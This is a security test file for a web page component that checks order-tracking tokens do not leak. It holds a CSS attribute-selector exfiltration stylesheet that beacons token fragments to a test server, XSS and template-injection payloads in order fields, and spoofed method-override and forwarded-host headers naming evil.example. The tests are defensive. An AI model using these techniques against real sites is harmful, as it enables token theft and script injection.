import { createServer, request as httpRequest, type IncomingHttpHeaders } from 'node:http'
import type { AddressInfo } from 'node:net'
import type { Browser } from 'playwright'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { openBrowser, plainPage, shownText, until, visit } from '../support/browser.ts'
import { house, placeOrder } from '../support/house.ts'

let browser: Browser
beforeAll(async () => { browser = await openBrowser() })
afterAll(async () => { await browser.close() })

/** A site of somebody else that notes who comes and from where. */
async function openStranger() {
  const seen: { url: string; headers: IncomingHttpHeaders }[] = []
  const server = createServer((request, response) => { seen.push({ url: request.url ?? '', headers: request.headers }); response.setHeader('content-type', 'text/html').end('<p>Another site') })
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve))
  return { seen, origin: `http://localhost:${(server.address() as AddressInfo).port}`, close: () => server.close() }
}

test('TRUST 22: whoever follows a link off the page takes no address of it along', async () => {
  const stranger = await openStranger()
  const order = await placeOrder()
  for (const path of [order.link, `${house.worker}/f/${house.store}`, `${order.link}x`]) {
    const { page, close } = await visit(browser, path)
    // As the page's own links would, and as a link without any care would.
    for (const rel of ['', 'noreferrer']) {
      await page.goto(path)
      await page.evaluate(({ href, rel: relation }) => { const link = document.createElement('a'); Object.assign(link, { href, rel: relation }); link.append('away'); document.body.append(link); link.click() }, { href: `${stranger.origin}/${rel}`, rel })
      await page.waitForURL(`${stranger.origin}/**`)
      expect(await page.evaluate(() => document.referrer)).toBe('')
    }
    await close()
  }
  // The icon of that site is asked for by that site.
  const visits = stranger.seen.filter(({ url }) => !url.includes('favicon'))
  expect(visits).toHaveLength(6)
  for (const { url, headers } of visits) expect([url, headers.referer]).toEqual([url, undefined])
  stranger.close()
})

test('TRUST 22: neither title, console, storage, cookies nor the words of a fault hold the token', async () => {
  const order = await placeOrder()
  const { page, close } = await visit(browser, null)
  const lines: string[] = []
  page.on('console', (message) => lines.push(message.text()))
  page.on('pageerror', (error) => lines.push(`${error.stack}`))
  await page.goto(order.link)
  await page.locator('svg.scene').waitFor({ state: 'attached' })
  await page.context().setOffline(true)
  await page.evaluate(() => window.dispatchEvent(new Event('offline')))
  await page.context().setOffline(false)
  const kept = await page.evaluate(() => JSON.stringify([document.title, document.cookie, { ...localStorage }, { ...sessionStorage }, document.documentElement.outerHTML]))
  expect(kept).not.toContain(order.token)
  expect(lines.join('\n')).not.toContain(order.token)
  expect(await page.context().cookies()).toEqual([])
  for (const path of [`/p/${order.token}x`, `/v1/pages/${order.token}x`, `/v1/pages/${order.token}/nothing`]) expect(await (await fetch(house.worker + path)).text(), path).not.toContain(order.token)
  await close()
})

test('TRUST 28: a style sheet that reads attributes learns nothing of a token given as one', async () => {
  const order = await placeOrder()
  const stranger = await openStranger()
  const { page, close } = await visit(browser, `${house.shop}/hostile/plain`)
  await until(() => shownText(page), (text) => text.includes('20418'))
  await page.evaluate(({ token, leak }) => {
    const element = document.createElement('doorstep-page')
    element.setAttribute('store', document.querySelector('doorstep-page')?.getAttribute('store') ?? '')
    element.setAttribute('token', token)
    document.querySelector('doorstep-page')?.replaceWith(element)
    const sheet = new CSSStyleSheet()
    // Every value of every attribute that an element of the page may have, asked for by its first and its middle characters.
    sheet.replaceSync(['token', 'src', 'href', 'id', 'class', 'part', 'data-token', 'title', 'value', 'aria-label'].flatMap((name) => [
      `*[${name}^="${token.slice(0, 4)}"]`, `*[${name}*="${token.slice(8, 16)}"]`, `*::part(page)[${name}*="${token.slice(8, 16)}"]`,
    ].map((selector, at) => `${selector} { background-image: url(${leak}/${name}-${at}) !important }`)).join('\n'))
    document.adoptedStyleSheets = [sheet]
  }, { token: order.token, leak: stranger.origin })
  expect(await until(() => shownText(page), (text) => text.includes(order.number))).toContain(order.number)
  await page.locator('svg.scene').first().waitFor({ state: 'attached' })
  expect(await page.evaluate((token) => document.documentElement.outerHTML.includes(token), order.token)).toBe(false)
  expect(stranger.seen).toEqual([])
  stranger.close()
  await close()
})

test('TRUST 23: markup in an embedded page is text too, and {{7*7}} is not counted out', async () => {
  const order = await placeOrder({
    number: `<b>{{7*7}}</b>${Date.now() % 100_000}`, safePlace: '</template></doorstep-page><img src=x onerror="window.pwned=1">',
    items: [{ sku: 'x', title: '<img src=x onerror="window.pwned=1">{{7*7}}', variant: '</script><script>window.pwned=1</script>', quantity: 1 }],
  }, { carrierName: '<svg onload="window.pwned=1">{{7*7}}' })
  const { page, reports, close } = await visit(browser, `${house.shop}/hostile/strict-csp`)
  await page.evaluate((token) => { (document.querySelector('doorstep-page') as HTMLElement & { token: string }).token = token }, order.token)
  const text = await until(() => shownText(page), (words) => words.includes('<img src=x'))
  expect(text).toContain('<img src=x onerror="window.pwned=1">{{7*7}}')
  expect(await page.evaluate(() => 'pwned' in window)).toBe(false)
  expect(await page.locator('doorstep-page img[src=x]').count()).toBe(0)
  expect(await reports()).toEqual([])
  await close()
})

test('TRUST 82: a GET with a body answers as one without, and is kept by nobody', async () => {
  const order = await placeOrder()
  const get = (body: string | null, headers: Record<string, string> = {}) => new Promise<{ status: number; cache: string; text: string }>((resolve, reject) => {
    const sent = httpRequest(order.link, { method: 'GET', headers: { ...headers, ...(body === null ? {} : { 'content-type': 'application/x-www-form-urlencoded', 'content-length': String(Buffer.byteLength(body)) }) } }, (response) => {
      const parts: Buffer[] = []
      response.on('data', (part: Buffer) => parts.push(part)).on('end', () => resolve({ status: response.statusCode ?? 0, cache: response.headers['cache-control'] ?? '', text: plainPage(Buffer.concat(parts).toString()) }))
    })
    sent.on('error', reject)
    sent.end(body ?? undefined)
  })
  expect((await get(null)).cache).toBe('private, no-store')
  // A block that took too long once is missing once: one pair of answers must be alike, and one that obeyed the body never is.
  const alike = async (body: string, headers?: Record<string, string>) => {
    const [odd, plain] = await until(async () => [await get(body, headers), await get(null)], ([one, other]) => one?.text === other?.text)
    expect(odd).toEqual(plain)
  }
  await alike('lang=ar&token=x&_method=DELETE')
  await alike('lang=ar', { 'x-http-method-override': 'POST', 'x-forwarded-host': 'evil.example' })
})
